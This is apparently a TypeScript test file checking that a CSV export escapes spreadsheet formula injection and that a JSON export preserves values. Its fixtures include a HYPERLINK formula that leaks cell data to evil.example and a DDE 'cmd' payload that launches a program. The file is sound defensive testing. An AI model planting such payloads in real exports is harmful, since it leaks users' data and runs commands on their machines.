/**
 * The Data view's export formats (server/supervisor/data/export-format.ts): CSV neutralises what a
 * spreadsheet would run as a formula (OWASP's CSV injection), JSON stays exact.
 */
import { describe, expect, it } from "vitest";
import { csvField, encoderFor } from "../../../../server/supervisor/data/export-format";

/** A guest book's entries as visitors wrote them (issue 24, item 9), and what the CSV holds for each. */
const attacks: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`],
  ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
  ["-2+3", `"'-2+3"`],
  ["@SUM(1+1)", `"'@SUM(1+1)"`],
  ["\t=1+1", `"'\t=1+1"`],
  ["\r=1+1", `"'\r=1+1"`],
];

describe("CSV export", () => {
  it("gives a text cell that starts a formula a leading ' and quotes it", () => {
    for (const [entry, field] of attacks) expect(csvField(entry), JSON.stringify(entry)).toBe(field);
  });

  it("leaves numbers, other text, NULL and BLOBs as they were", () => {
    expect(csvField(-2)).toBe("-2");
    expect(csvField(-0.5)).toBe("-0.5");
    expect(csvField("2-3")).toBe("2-3");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField(" =1")).toBe(" =1");
    expect(csvField("'quoted")).toBe("'quoted");
    expect(csvField("")).toBe('""');
    expect(csvField(null)).toBe("");
    expect(csvField({ blob: "00ff", bytes: 2 })).toBe("X'00FF'");
  });

  it("neutralises a whole export, the header included, and a spreadsheet's reading of it is text", () => {
    const csv = encoderFor("csv");
    const text =
      csv.start(["id", "=name"]) +
      csv.rows([
        [1, attacks[0]?.[0] ?? ""],
        [-2, "-2"],
      ]) +
      csv.end();
    expect(text).toBe(`id,"'=name"\r\n1,${attacks[0]?.[1]}\r\n-2,"'-2"\r\n`);
    // Once its quotes are read, no field of the file starts a formula, except a real number.
    for (const line of text.split("\r\n").filter(Boolean)) {
      for (const field of line.match(/"(?:[^"]|"")*"|[^,]+/g) ?? []) {
        const value = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
        if (!/^-?\d+$/.test(value)) expect(value, field).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

describe("JSON export", () => {
  it("keeps every value exactly as stored", () => {
    const json = encoderFor("json");
    const values = attacks.map(([entry]) => entry);
    const text = json.start(["entry", "n"]) + json.rows(values.map((v) => [v, -2])) + json.end();
    expect(JSON.parse(text)).toEqual(values.map((entry) => ({ entry, n: -2 })));
  });
});
